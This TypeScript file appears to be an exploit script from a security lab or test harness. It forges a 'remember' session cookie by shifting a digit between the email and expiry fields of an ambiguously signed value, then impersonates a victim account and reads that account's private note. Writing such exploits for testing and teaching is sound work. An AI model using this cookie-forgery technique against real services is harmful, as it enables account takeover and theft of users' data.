import { exploit } from '#attack';

/** The signature is one of the email and the time, one directly after the other: a digit can be in either of them. */
export default exploit(async ({ target, victim, say }) => {
  for (const digit of '123456789') {
    const attacker = target.client('Attacker');
    const email = victim + digit;
    const opened = await attacker.post('/accounts', { email });
    if (opened.status !== 201) continue;
    (await attacker.post('/sign-in', { email, key: opened.body.key })).expect(200);
    const [, expires, signature] = attacker.cookies.get('remember')!.split('.');

    const name = Buffer.from(victim).toString('base64url');
    attacker.cookies.set('remember', [name, digit + expires, signature].join('.'));
    const { status, body } = await attacker.get('/me');
    say(`The program responds with ${status}.`);
    return status === 200 ? body.note : undefined;
  }
  return undefined;
});
